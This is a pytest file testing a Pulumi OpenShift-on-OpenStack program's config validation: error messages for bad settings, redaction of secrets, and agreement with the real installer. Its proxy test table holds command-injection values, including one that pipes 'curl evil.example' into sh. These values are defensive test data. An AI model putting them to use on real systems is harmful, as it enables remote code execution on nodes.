"""Bad input stops the program before any resource exists, with a message naming the key."""

from __future__ import annotations

import json
import os
import subprocess
from ipaddress import IPv4Address
from pathlib import Path

import pulumi
import pytest
import yaml

from cluster.addresses import plan_addresses
from cluster.config import KNOWN_KEYS, STRUCTURED_KEYS, ConfigError, load_config
from cluster.installer import install_config
from tests.certs import OTHER_CA, TEST_CA
from tests.conftest import ECDSA_SSH_KEY, PULL_SECRET, ROOT, run_recording, stack_config, with_section
from tools import toolchain
from tools.mock_run import unwrap
from tools.plan import main as plan_main

DEV = stack_config("dev")
# What `cat ~/.ssh/id_ed25519` gives (a made-up key).
PRIVATE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)


def bad(key: str, value):
    return {**DEV, f"ocp:{key}": json.dumps(value) if isinstance(value, (dict, list)) else value}


def section(key: str, **changes):
    return with_section(DEV, key, **changes)


def without(key: str):
    return {name: value for name, value in DEV.items() if name != f"ocp:{key}"}


# (config, text the message must contain)
BAD_CONFIGS = [
    (bad("platform", "aws"), "ocp:platform"),
    (bad("clusterName", "OCP_4"), "ocp:clusterName"),
    (bad("clusterName", "a" * 41), "ocp:clusterName"),
    (bad("baseDomain", "Not A Domain"), "ocp:baseDomain"),
    (bad("machineNetwork", "10.0.0.1/16"), "write 10.0.0.0/16"),
    (bad("machineNetwork", "10.0.0.0/26"), "ocp:machineNetwork"),
    (bad("apiVip", "10.1.0.5"), "ocp:apiVip"),
    (bad("apiVip", "10.0.0.20"), "ocp:apiVip: 10.0.0.20 is ocp4-master-0"),
    (bad("ingressVip", "10.0.0.5"), "ocp:ingressVip"),
    (bad("apiVip", "not-an-ip"), "ocp:apiVip"),
    (section("masters", count=2), "ocp:masters.count"),
    (section("masters", flavor=None), "ocp:masters.flavor is required"),
    (section("masters", vcpus=8), "ocp:masters.vcpus is a libvirt setting"),
    (section("masters", rootVolume={"size": 10}), "ocp:masters.rootVolume.size"),
    (section("masters", serverGroupPolicy="spread"), "ocp:masters.serverGroupPolicy"),
    (section("masters", flavour="big"), "ocp:masters.flavour: unknown key"),
    (section("workers", count=-1), "ocp:workers.count"),
    (section("workers", count=20, maxCount=10), "ocp:workers.count: 20 is more than ocp:workers.maxCount 10"),
    (section("workers", maxCount=501), "ocp:workers.maxCount: Input should be less than or equal to 500"),
    (section("openstack", apiFloatingIp="sometimes"), "ocp:openstack.apiFloatingIp"),
    (section("openstack", externalNetwork=None), "ocp:openstack.externalNetwork is required"),
    (section("openstack", sshAllowedCidr="everywhere"), "ocp:openstack.sshAllowedCidr"),
    (without("openstack"), "ocp:openstack is required"),
    (bad("libvirt", {"uri": "qemu:///system"}), "ocp:libvirt is set but ocp:platform is openstack"),
    (bad("installer", {}), "installer.binary"),
    (bad("installer", {"assetsDir": "/nonexistent/assets"}), "ocp:installer.assetsDir: /nonexistent/assets lacks"),
    (section("bootstrap", helper={"sshPrivateKeyFile": "/nonexistent/id_ed25519"}), "ocp:bootstrap.helper.sshPrivateKeyFile"),
    (bad("nameservers", []), "ocp:nameservers"),
    (bad("nameservers", ["1.1.1.1", "8.8.8.8", "9.9.9.9", "8.8.4.4"]), "ocp:nameservers"),
    (without("nameservers"), "ocp:nameservers: is required"),
    (bad("sshKey", "my key"), "ocp:sshKey"),
    (bad("pullSecret", "not json"), "ocp:pullSecret"),
    (bad("pullSecret", '{"registries": {}}'), "ocp:pullSecret"),
    (bad("proxy", {"httpProxy": "proxy:3128"}), "ocp:proxy.httpProxy"),
    (bad("additionalTrustBundle", "not a certificate"), "ocp:additionalTrustBundle"),
    (bad("tags", "not-a-list"), "ocp:tags"),
    (bad("clusterNmae", "typo"), "ocp:clusterNmae: not a setting"),
    (bad("masters", "{not json"), "ocp:masters: expected an object"),
    # issue 9: what users hit
    (section("openstack", apiFloatingIp="198.51.100.9", ingressFloatingIp="198.51.100.9"),
     "ocp:openstack.ingressFloatingIp: 198.51.100.9 is also apiFloatingIp"),
    (bad("sshKey", PRIVATE_KEY), "ocp:sshKey: is a PRIVATE key: it must never be in a stack file"),
    ({**DEV, "openstack:cloud": "other"}, "ocp:openstack.cloud: 'openstack' contradicts openstack:cloud 'other'"),
    (section("masters", rootVolum={"size": 120}), "ocp:masters.rootVolum: unknown key: did you mean rootVolume?"),
    (section("openstack", sshAllowedCidr=None), "ocp:openstack.sshAllowedCidr is required when the bootstrap has a floating IP (ocp:bootstrap.helper.floatingIp, true by default but on a network given without a router): `openshift-install gather bootstrap`"),
    (with_section(section("openstack", sshAllowedCidr=None), "bootstrap", configSource="helper"),
     "ocp:openstack.sshAllowedCidr is required when the bootstrap helper has a floating IP: `pulumi up` copies"),
    (section("bootstrap", configSource="swift"), "ocp:bootstrap.configSource: Input should be 'glance' or 'helper'"),
    (section("workers", readyTimeout=0), "ocp:workers.readyTimeout: Input should be greater than or equal to 1"),
    (bad("apiVip", "10.0.0.1"), "ocp:apiVip: 10.0.0.1 is the router's gateway address"),
    (bad("machineNetwork", "10.128.0.0/16"), "ocp:machineNetwork: 10.128.0.0/16 overlaps the cluster network"),
    (bad("machineNetwork", "172.16.0.0/12"), "ocp:machineNetwork: 172.16.0.0/12 overlaps the service network"),
    (bad("machineNetwork", "100.64.0.0/20"), "overlaps OVN-Kubernetes' join network"),
    (section("masters", rootVolume={"type": "ssd"}), "ocp:masters.rootVolume.size: is required: the boot volume's size in GiB"),
    (section("masters", availabilityZones=["az1", "az2", "az3", "az4"]), "ocp:masters.availabilityZones lists 4 zones for 3 masters: az4"),
    (section("workers", rootVolume={"size": 120, "availabilityZones": ["nova-a", "nova-b"]}),
     "ocp:workers.rootVolume.availabilityZones lists 2 zones and ocp:workers.availabilityZones 0: "),
    (section("masters", rootVolume={"size": 120, "availabilityZones": "nova"}), "ocp:masters.rootVolume.availabilityZones: is not a list"),
    (section("openstack", apiFloatingIp="10.0.0.200"), "ocp:openstack.apiFloatingIp: 10.0.0.200 is in ocp:machineNetwork"),
    (section("openstack", sshAllowedCidr="192.168.122.7/24"), "ocp:openstack.sshAllowedCidr: '192.168.122.7/24' has host bits set: write 192.168.122.0/24"),
    # SSH from the world, to the bootstrap's floating IP (ocp:bootstrap.helper.floatingIp, true in the dev stack), or to the helper.
    (section("openstack", sshAllowedCidr="0.0.0.0/0"), "ocp:openstack.sshAllowedCidr: 0.0.0.0/0 admits SSH to the bootstrap (and its helper) "
     "from 3,702,258,688 public IPv4 addresses, more than a /8 (16,777,216). Write the address Pulumi and `openshift-install gather "
     "bootstrap` run from, e.g. sshAllowedCidr: 203.0.113.7/32"),
    (with_section(section("openstack", sshAllowedCidr="0.0.0.0/1"), "bootstrap", configSource="helper"), "ocp:openstack.sshAllowedCidr: 0.0.0.0/1 admits SSH"),
    (section("openstack", sshAllowedCidr="8.0.0.0/7"), "ocp:openstack.sshAllowedCidr: 8.0.0.0/7 admits SSH"),
    (section("openstack", apiAllowedCidrs=["everyone"]), "ocp:openstack.apiAllowedCidrs[0]: 'everyone' is not a CIDR: write one such as 10.0.0.0/16 or fd00:10::/64"),
    (section("openstack", ingressAllowedCidrs=["0.0.0.0/0", "0.0.0.0/0"]), "ocp:openstack.ingressAllowedCidrs: lists 0.0.0.0/0 more than once"),
    (bad("nameservers", "127.0.0.53"), "ocp:nameservers[0]: 127.0.0.53 is a local address"),
    (bad("nameservers", ["10.0.0.5"]), "ocp:nameservers: 10.0.0.5 is the API VIP"),
    (bad("nameservers", ["10.20.0.1", "10.20.0.1"]), "ocp:nameservers: lists 10.20.0.1 more than once"),
    (bad("tags", ["openshiftClusterID=mine"]), "ocp:tags[0]: openshiftClusterID is the tag this program sets"),
    (bad("tags", ["team=a", "team=a"]), "ocp:tags: lists team=a more than once"),
    (bad("cluster_name", "ocp4"), "ocp:cluster_name: not a setting of this program: keys are camelCase, write clusterName"),
    (bad("apiVip", ""), "ocp:apiVip: is empty: give it a value or remove the line"),
    (bad("sshKey", DEV["ocp:sshKey"] + "\nssh-ed25519"), "ocp:sshKey: is not an SSH public key (line 2)"),
    # The real installer refuses bundles whose blocks are not all certificates ("invalid block").
    (bad("additionalTrustBundle", "-----BEGIN CERTIFICATE-----\nPROXYCA\n-----END CERTIFICATE-----\n"), "ocp:additionalTrustBundle: block 1 (CERTIFICATE) is not an X.509 certificate, and openshift-install refuses the bundle"),
    (bad("additionalTrustBundle", TEST_CA + "-----BEGIN EC PRIVATE KEY-----\nAAAA\n-----END EC PRIVATE KEY-----\n"), "ocp:additionalTrustBundle: block 2 (EC PRIVATE KEY) is not an X.509 certificate"),
    (bad("additionalTrustBundle", TEST_CA + "our lab CA\n"), "ocp:additionalTrustBundle: has text after its last certificate"),
    # The real installer refuses these too ("ssh: no key found"): unpadded data, another type inside.
    (bad("sshKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFA me"), "ocp:sshKey: is not an SSH public key"),
    (bad("sshKey", DEV["ocp:sshKey"].replace("ssh-ed25519", "ssh-rsa", 1)), "ocp:sshKey: is not an SSH public key"),
    (section("bootstrap", helpr={"port": 8081}), "ocp:bootstrap.helpr: unknown key: did you mean helper?"),
    (section("masters", availabilityZones="az1"), "ocp:masters.availabilityZones: is not a list: write [a, b]"),
    (section("openstack", additionalNetworkIds=["storage-net"]), "ocp:openstack.additionalNetworkIds[0]: 'storage-net' is not an OpenStack ID: write the UUID"),
    (
        section("openstack", additionalNetworks=[{"network": "storage", "portSecurity": False, "securityGroups": ["0e4d2c1b-7f6a-4b3c-8d9e-1a2b3c4d5e6f"]}]),
        "ocp:openstack.additionalNetworks[0]: securityGroups with portSecurity false: Neutron refuses",
    ),
    (section("openstack", additionalNetworks=[{"network": "storage", "pools": ["infra"]}]), "ocp:openstack.additionalNetworks[0].pools[0]: Input should be 'masters' or 'workers'"),
    (section("openstack", additionalNetworks=[{"network": "storage", "pools": []}]), "ocp:openstack.additionalNetworks[0].pools"),
    (section("openstack", additionalNetworks=[{"network": "storage", "vnicType": "baremetal"}]), "ocp:openstack.additionalNetworks[0].vnicType"),
    # Issue 50, finding 10: a binding profile says what an SR-IOV VF's binding reads, and something.
    (
        section("openstack", additionalNetworks=[{"network": "sriov", "vnicType": "direct-physical", "profile": {"trusted": True}}]),
        "ocp:openstack.additionalNetworks[0]: profile with vnicType direct-physical: the switchdev capability and a trusted VF are "
        "read where an SR-IOV VF is bound (vnicType direct; OVS hardware offload and trusted VFs are VFs): write vnicType: direct, "
        "or remove profile",
    ),
    (
        section("openstack", additionalNetworks=[{"network": "sriov", "vnicType": "direct", "profile": {}}]),
        "ocp:openstack.additionalNetworks[0].profile: says nothing: write capabilities: [switchdev] (OVS hardware offload), "
        "trusted: true, or both; or remove it",
    ),
    (
        section("openstack", additionalNetworks=[{"network": "sriov", "vnicType": "direct", "profile": {"capabilities": ["offload"]}}]),
        "ocp:openstack.additionalNetworks[0].profile.capabilities[0]: Input should be 'switchdev'",
    ),
    (
        section("openstack", additionalNetworks=[{"network": "sriov", "vnicType": "direct", "profile": {"physical_network": "physnet2"}}]),
        "ocp:openstack.additionalNetworks[0].profile.physical_network: unknown key",
    ),
    # Issue 49, item 1: masters on an unfiltered network only in so many words.
    (
        section("openstack", additionalNetworks=[{"network": "storage", "portSecurity": False, "pools": ["masters", "workers"]}]),
        "ocp:openstack.additionalNetworks[0].pools: masters on storage, whose ports have no port security: anything on that network "
        "would reach every port of the control plane, the machine config server (which serves the worker config with the pull "
        "secret and the node-bootstrapper token) and etcd included. Write pools: [workers]; or, if the masters must be on it "
        "unfiltered, say so: unfilteredMasterPorts: true",
    ),
    (
        section("openstack", additionalNetworks=[{"network": "storage", "portSecurity": False, "pools": ["workers"], "unfilteredMasterPorts": True}]),
        "ocp:openstack.additionalNetworks[0].unfilteredMasterPorts: pools has no masters, so no master has a port on storage: remove it",
    ),
    (
        section("openstack", additionalNetworks=[{"network": "storage"}, {"network": "storage", "pools": ["workers"]}]),
        "ocp:openstack.additionalNetworks[1].network: storage is also ocp:openstack.additionalNetworks[0].network",
    ),
    (section("masters", additionalSecurityGroupIds=["masters-only"]), "ocp:masters.additionalSecurityGroupIds[0]: 'masters-only' is not an OpenStack ID"),
    (section("openstack", existingNetwork={"networkId": "n", "subnetId": "s"}, externalNetwork=None, apiFloatingIp="create"), "ocp:openstack.externalNetwork is required for apiFloatingIp"),
    (
        section("openstack", existingNetwork={"networkId": "n", "subnetId": "s", "router": True}, externalNetwork=None),
        "ocp:openstack.existingNetwork.router: true needs ocp:openstack.externalNetwork",
    ),
    (bad("loadBalancer", "UserManaged"), "ocp:loadBalancer: UserManaged in integrated mode needs ocp:openstack.existingNetwork"),
    (bad("loadBalancer", "F5"), "ocp:loadBalancer: Input should be 'OpenShiftManagedDefault' or 'UserManaged'"),
    (section("workers", rootVolume={"size": 120}), "ocp:workers.rootVolume.type is required in integrated mode"),
    (bad("ntpServers", ["10.0.0.300"]), "ocp:ntpServers[0]: '10.0.0.300' is neither an IP address nor a host name"),
    (bad("ntpServers", "127.0.0.1"), "ocp:ntpServers[0]: 127.0.0.1 is not a time server the nodes can ask"),
    (bad("ntpServers", []), "ocp:ntpServers: Value should have at least 1 item"),
    (bad("ntpServers", ["ntp.lab", "ntp.lab"]), "ocp:ntpServers: lists ntp.lab more than once"),
    (section("installer", extraManifests="no/such/manifests"), "ocp:installer.extraManifests: no/such/manifests is not a directory"),
    # etcd on the flavor's ephemeral disk needs the root on a volume (openshift-docs' local-disk guide), and 10 GiB at least.
    (section("masters", etcdDisk={"size": 10}), "ocp:masters.etcdDisk: needs ocp:masters.rootVolume: etcd moves to the flavor's ephemeral disk"),
    (section("masters", rootVolume={"size": 100, "type": "ssd"}, etcdDisk={"size": 5}), "ocp:masters.etcdDisk.size: Input should be greater than or equal to 10"),
    (section("masters", rootVolume={"size": 100, "type": "ssd"}, etcdDisk={"sizeGib": 10}), "ocp:masters.etcdDisk.sizeGib: unknown key"),
]


def test_table_has_at_least_twenty_cases():
    assert len(BAD_CONFIGS) >= 20


def write_stack_file(config: dict[str, str], path: Path) -> Path:
    """The config as a user would write it in Pulumi.<stack>.yaml."""
    values = {}
    for key, text in config.items():
        if key == "ocp:pullSecret" and text == PULL_SECRET:
            continue  # set with --secret, it is encrypted in the file (the offline plan then uses a sample)
        try:
            values[key] = json.loads(text) if key.removeprefix("ocp:") in STRUCTURED_KEYS else text
        except ValueError:
            values[key] = text
    path.write_text(yaml.safe_dump({"config": values}, sort_keys=True))
    return path


def offline_plan(stack_file: Path, out: Path, capsys) -> tuple[int, str]:
    code = plan_main(["--config-file", str(stack_file), "--out", str(out)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize("config,expected", BAD_CONFIGS, ids=[text[:40] for _, text in BAD_CONFIGS])
def test_bad_config_stops_before_any_resource(config, expected):
    recorded, error = run_recording(config)
    assert isinstance(error, pulumi.RunError), error
    message = str(error)
    assert expected in message
    assert message.startswith("invalid stack configuration")
    assert "Traceback" not in message
    assert recorded.resources == []


@pytest.mark.parametrize("config,expected", BAD_CONFIGS, ids=[text[:40] for _, text in BAD_CONFIGS])
def test_bad_config_exits_2_from_the_offline_plan_and_writes_nothing(config, expected, tmp_path, capsys):
    code, stderr = offline_plan(write_stack_file(config, tmp_path / "Pulumi.x.yaml"), tmp_path / "out", capsys)
    assert code == 2
    assert expected in stderr and "Traceback" not in stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Pulumi.x.yaml"]


# (how the dev stack file is broken, column, what the message says); the line is the edited one
BAD_STACK_FILES = [
    (("    flavor: worker\n", "      flavor: worker\n"), 13, "mapping values are not allowed here"),
    (("    flavor: worker\n", "   flavor: worker\n"), 4, "expected <block end>"),
    (("ocp:clusterName: ocp4", 'ocp:clusterName: "ocp4'), 20, "while scanning a quoted scalar"),
    (("    count: 3\n", "\tcount: 3\n"), 1, "found character '\\t'"),
    (("  ocp:masters:\n", "  ocp:masters: {}\n  ocp:masters:\n"), 3, "ocp:masters is given twice (first on line {line}): keep one"),
]


def _line_of(text: str, fragment: str) -> int:
    return text[: text.index(fragment)].count("\n") + 1


@pytest.mark.parametrize("edit,column,expected", BAD_STACK_FILES, ids=[text[:30] for *_, text in BAD_STACK_FILES])
def test_a_broken_stack_file_names_file_line_and_column(edit, column, expected, tmp_path, capsys):
    stack_file = tmp_path / "Pulumi.x.yaml"
    text = (ROOT / "Pulumi.dev.yaml").read_text()
    assert edit[0] in text
    line = _line_of(text, edit[0])
    stack_file.write_text(text.replace(edit[0], edit[1], 1))
    code, stderr = offline_plan(stack_file, tmp_path / "out", capsys)
    assert code == 2
    # A key given twice is reported where it comes again, the line below its first place here.
    where = f":{line + 1 if 'twice' in expected else line}:{column}:"
    assert stderr.startswith(f"error: {stack_file}{where}") and expected.format(line=line) in stderr
    assert len(stderr.strip().splitlines()) == 1 and "Traceback" not in stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["Pulumi.x.yaml"]


def test_bad_input_count():
    """Issue 9 asked for the table to grow by at least 10 beyond the ones it names; report it."""
    from tests.components.test_libvirt import BAD_CONFIGS as LIBVIRT_BAD_CONFIGS

    assert len(BAD_CONFIGS) + len(BAD_STACK_FILES) + len(LIBVIRT_BAD_CONFIGS) >= 38 + 21 + 6 + 10


def test_the_dev_stack_is_valid():
    recorded, error = run_recording(DEV)
    assert error is None
    assert recorded.resources


def test_every_problem_is_reported_at_once():
    config = {**bad("clusterName", "Bad!"), "ocp:baseDomain": "Also Bad"}
    _, error = run_recording(config)
    assert "(2 problems)" in str(error)
    assert "ocp:clusterName" in str(error) and "ocp:baseDomain" in str(error)


def test_problems_of_single_keys_and_between_keys_come_in_one_run():
    config = with_section(DEV, "openstack", sshAllowedCidr=None, apiFloatingIp="198.51.100.9", ingressFloatingIp="198.51.100.9")
    config = with_section(config, "masters", rootVolum={"size": 120}, availabilityZones=["a", "b", "c", "d"])
    config = with_section(config, "workers", count=20, maxCount=10)
    config = {**config, "ocp:clusterName": "Bad!", "ocp:machineNetwork": "172.30.0.0/16", "ocp:sshKey": PRIVATE_KEY,
              "ocp:nameservers": "127.0.0.53", "ocp:clusterNmae": "x", "openstack:cloud": "other"}
    recorded, error = run_recording(config)
    message = str(error)
    for expected in (
        "ocp:clusterName:", "ocp:sshKey: is a PRIVATE key", "ocp:nameservers[0]: 127.0.0.53", "did you mean rootVolume",
        "ocp:clusterNmae: not a setting of this program: did you mean clusterName?", "contradicts openstack:cloud",
        # between keys, although some keys above are invalid on their own
        "ocp:openstack.sshAllowedCidr is required", "is also apiFloatingIp", "ocp:workers.count: 20 is more than",
        "overlaps the service network",
    ):
        assert expected in message, expected
    assert "(10 problems)" in message
    assert recorded.resources == []


def test_a_check_between_keys_skips_keys_that_are_invalid_on_their_own():
    # masters.count 2 is reported once; the zone check, which needs the count, does not guess one.
    _, error = run_recording(section("masters", count=2, availabilityZones=["a", "b", "c", "d"]))
    assert "ocp:masters.count" in str(error) and "availabilityZones" not in str(error)


def test_a_private_key_is_never_echoed():
    _, error = run_recording(bad("sshKey", PRIVATE_KEY))
    assert "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" not in str(error) and "rotate it" in str(error)


def test_the_installers_own_formats_are_accepted():
    keys = DEV["ocp:sshKey"] + "\n\n" + "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 ops@bastion\n"
    config = load_config(
        {**DEV, "ocp:nameservers": "10.20.0.1", "ocp:sshKey": keys,
         "ocp:proxy": json.dumps({"httpProxy": "http://proxy:3128", "noProxy": ".example.com, 10.0.0.0/8,,localhost"})}
    )
    assert [str(server) for server in config.nameservers] == ["10.20.0.1"]
    assert config.proxy is not None and config.proxy.no_proxy == (".example.com", "10.0.0.0/8", "localhost")
    assert config.ssh_key.splitlines() == [DEV["ocp:sshKey"], "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 ops@bastion"]
    assert load_config({**DEV, "ocp:nameservers": "10.20.0.1, 10.20.0.2"}).nameservers == (
        IPv4Address("10.20.0.1"), IPv4Address("10.20.0.2"))
    openstack = load_config(section("openstack", apiAllowedCidrs="198.51.100.0/24, 192.0.2.0/28")).openstack
    assert openstack is not None and [str(c) for c in openstack.api_allowed_cidrs] == ["198.51.100.0/24", "192.0.2.0/28"]


# The proxy reaches the nodes' environment files and shell-run tools: the whole value is checked.
BAD_PROXIES = [
    ({"httpProxy": "http://proxy:3128\nNO_PROXY=*"}, "ocp:proxy.httpProxy: 'http://proxy:3128\\nNO_PROXY=*' is not a proxy URL"),
    ({"httpsProxy": "http://proxy:3128/$(curl evil.example|sh)"}, "ocp:proxy.httpsProxy: 'http://proxy:3128/$(curl evil.example|sh)' is not a proxy URL"),
    ({"httpProxy": "http://proxy:3128;reboot"}, "ocp:proxy.httpProxy: 'http://proxy:3128;reboot' is not a proxy URL"),
    ({"httpProxy": "https://proxy:3128 `id`"}, "ocp:proxy.httpProxy: 'https://proxy:3128 `id`' is not a proxy URL"),
    # A password's own characters: percent-encoded; the message never shows the password.
    ({"httpProxy": "http://ops:pa$(id)@proxy:3128"}, "ocp:proxy.httpProxy: 'http://***@proxy:3128' is not a proxy URL: write http://host:port (or http://user:password@host:port, any character of the user or password but letters, digits and - . _ ~ + , = percent-encoded, %24 for $)"),
    ({"noProxy": [".example.com", "10.0.0.0/8\nHTTP_PROXY=http://evil:1"]}, "ocp:proxy.noProxy[1]: '10.0.0.0/8\\nHTTP_PROXY=http://evil:1' is not a domain, address, CIDR or *"),
    ({"noProxy": "localhost,$(id)"}, "ocp:proxy.noProxy[1]: '$(id)' is not a domain, address, CIDR or *: write e.g. .example.com or 10.0.0.0/8"),
]


@pytest.mark.parametrize("proxy,expected", BAD_PROXIES, ids=[text[:40] for _, text in BAD_PROXIES])
def test_a_proxy_value_with_a_line_break_or_shell_text_is_refused(proxy, expected):
    recorded, error = run_recording(bad("proxy", proxy))
    assert isinstance(error, pulumi.RunError), error
    assert expected in str(error) and "ops:pa" not in str(error)
    assert recorded.resources == []


def test_proxies_as_users_write_them_are_accepted():
    proxy = load_config(bad("proxy", {
        "httpProxy": "http://ops:p%40ss%24@proxy.example.com:3128/", "httpsProxy": "http://[fd00::1]:3128",
        "noProxy": ".example.com, 10.0.0.0/8, fd00::/64, localhost, *",
    })).proxy
    assert proxy is not None and proxy.http_proxy == "http://ops:p%40ss%24@proxy.example.com:3128/"
    assert proxy.no_proxy == (".example.com", "10.0.0.0/8", "fd00::/64", "localhost", "*")


def test_every_key_of_the_helpers_ssh_keys_reaches_the_helper():
    keys = DEV["ocp:sshKey"] + "\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 ops@bastion"
    recorded, error = run_recording({**with_section(DEV, "bootstrap", configSource="helper"), "ocp:sshKey": keys})
    assert error is None
    helper = next(r for r in recorded.resources if r.name == "ocp4-bootstrap-helper-server")
    document = yaml.safe_load(unwrap(helper.inputs["userData"]).removeprefix("#cloud-config\n"))
    assert document["ssh_authorized_keys"] == keys.splitlines()


def test_one_source_of_truth_for_the_cloud():
    # openstack:cloud alone names the cloud; agreeing values are fine.
    only_provider = with_section({**DEV, "openstack:cloud": "lab"}, "openstack", cloud=None)
    assert load_config(only_provider).openstack.cloud == "lab"
    assert load_config({**DEV, "openstack:cloud": "openstack"}).openstack.cloud == "openstack"
    recorded, error = run_recording(only_provider)
    provider = next(r for r in recorded.resources if r.type == "pulumi:providers:openstack")
    assert error is None and unwrap(provider.inputs)["cloud"] == "lab"


def test_pull_secret_never_appears_in_error_messages():
    _, error = run_recording(bad("pullSecret", "hunter2-not-json"))
    assert "hunter2" not in str(error)


def test_pulumi_yaml_declares_exactly_the_keys_every_stack_must_set():
    # The CLI refuses a stack without a value for any declared key that has no default
    # (tests/e2e runs it): declaring an optional key would make it required.
    declared = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())["config"]
    with pytest.raises(ConfigError) as refused:
        load_config({})
    required = {problem.split(": ")[0].removeprefix("ocp:") for problem in refused.value.problems}
    assert set(declared) == required <= set(KNOWN_KEYS)
    assert all(entry.get("description") and "default" not in entry for entry in declared.values())
    assert declared["pullSecret"]["secret"] is True


def test_config_is_frozen():
    config = load_config(DEV)
    with pytest.raises(Exception):
        config.cluster_name = "other"  # type: ignore[misc]


def _aliases(model: type) -> set[str]:
    names = set()
    for name, info in model.model_fields.items():
        names.add(info.alias or name)
        for arg in getattr(info.annotation, "__args__", (info.annotation,)):
            if hasattr(arg, "model_fields"):
                names |= _aliases(arg)
    return names


def test_the_config_reference_names_every_key():
    from cluster.config import ClusterConfig

    reference = (ROOT / "docs" / "config.md").read_text()
    # networking's keys have their own page (docs/networking.md)
    from cluster.networking import NetworkingSettings

    documented = reference + (ROOT / "docs" / "networking.md").read_text()
    missing = sorted(key for key in _aliases(ClusterConfig) - _aliases(NetworkingSettings) if f"`{key}`" not in reference)
    missing += sorted(key for key in _aliases(NetworkingSettings) if f"`{key}`" not in documented)
    assert missing == []


# ---------------------------------------------------------------- held to the real installer

BUNDLE_AFTER_TEXT = TEST_CA + "our lab CA\n"
NOT_A_CERTIFICATE = "-----BEGIN CERTIFICATE-----\nPROXYCA\n-----END CERTIFICATE-----\n"
UNPADDED_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFA me"


def installer_refuses(tmp_path, key: str, value: str) -> str | None:
    """What the real `openshift-install create manifests` says of the standalone stack's
    install-config with `key` set to `value` (None: it takes it)."""
    installer = toolchain.binary("openshift-install")
    if installer is None:
        pytest.skip(toolchain.missing("openshift-install"))
    config = load_config(stack_config("standalone"))
    document = {**install_config(config, plan_addresses(config), PULL_SECRET), key: value}
    (tmp_path / "install-config.yaml").write_text(yaml.safe_dump(document))
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
    result = subprocess.run([installer, "create", "manifests", "--dir", str(tmp_path)], env=environment, capture_output=True, text=True)
    return None if result.returncode == 0 else result.stderr


@pytest.mark.parametrize(
    ("key", "value", "installer_says"),
    [
        ("sshKey", UNPADDED_KEY, "ssh: no key found"),
        ("additionalTrustBundle", NOT_A_CERTIFICATE, "invalid block"),
        ("additionalTrustBundle", BUNDLE_AFTER_TEXT, "invalid block"),
    ],
)
def test_what_the_installer_refuses_the_program_refuses_first(tmp_path, key, value, installer_says):
    refused = installer_refuses(tmp_path, key, value)
    assert refused is not None and installer_says in refused, refused
    with pytest.raises(ConfigError) as error:
        load_config(bad(key, value))
    assert any(problem.startswith(f"ocp:{key}: ") for problem in error.value.problems)


def test_a_key_whose_label_disagrees_with_its_data_is_refused_though_the_installer_takes_it(tmp_path):
    # sshd on the nodes would ignore the line (key type mismatch): refused for that, not for the installer.
    mislabelled = DEV["ocp:sshKey"].replace("ssh-ed25519", "ssh-rsa", 1)
    assert installer_refuses(tmp_path, "sshKey", mislabelled) is None
    with pytest.raises(ConfigError, match="ocp:sshKey: is not an SSH public key"):
        load_config(bad("sshKey", mislabelled))


def test_what_the_program_takes_the_installer_takes(tmp_path):
    config = load_config(bad("additionalTrustBundle", TEST_CA + OTHER_CA))
    assert installer_refuses(tmp_path, "additionalTrustBundle", config.additional_trust_bundle) is None


def test_fips_takes_rsa_and_ecdsa_keys_only_as_the_installer_does(tmp_path):
    refused = installer_refuses(tmp_path, "fips", True)
    assert refused is not None and "SSH key type ssh-ed25519 unavailable when FIPS is enabled" in refused, refused
    with pytest.raises(ConfigError) as error:
        load_config(bad("fips", "true"))
    assert [problem for problem in error.value.problems if problem.startswith("ocp:sshKey: ")] == [
        "ocp:sshKey: ssh-ed25519 keys cannot be used with ocp:fips true (the installer refuses them): "
        "write RSA or ECDSA keys ('ssh-keygen -t ecdsa'), or leave fips out"
    ]
    assert load_config({**bad("fips", "true"), "ocp:sshKey": ECDSA_SSH_KEY}).fips


def test_root_volumes_of_servers_with_zones_name_their_zones_too():
    # The installer refuses it ("root volume availability zones must be specified when compute
    # availability zones are specified"; tests/localcloud runs it against a cloud).
    config = with_section(DEV, "masters", rootVolume={"size": 120, "type": "ssd"}, availabilityZones=["az1", "az2"])
    with pytest.raises(ConfigError) as error:
        load_config(config)
    assert error.value.problems == [
        "ocp:masters.rootVolume.availabilityZones: required with ocp:masters.availabilityZones (the installer refuses "
        "root volumes without zones when servers have zones): list the Cinder zones (`openstack availability zone "
        "list --volume`), one for all nodes or one per compute zone, e.g. [nova]"
    ]
    with_zones = with_section(config, "masters", rootVolume={"size": 120, "type": "ssd", "availabilityZones": ["nova"]})
    assert load_config(with_zones).masters.root_volume.availability_zones == ("nova",)


def test_an_ssh_source_of_slash_8_or_narrower_is_accepted_and_a_wider_one_is_one_message():
    assert load_config(section("openstack", sshAllowedCidr="10.0.0.0/8")).openstack.ssh_allowed_cidr.prefixlen == 8
    with pytest.raises(ConfigError) as refused:
        load_config(section("openstack", sshAllowedCidr="0.0.0.0/0"))
    assert str(refused.value).count("\n") == 0 and str(refused.value).startswith("ocp:openstack.sshAllowedCidr: 0.0.0.0/0 admits SSH")
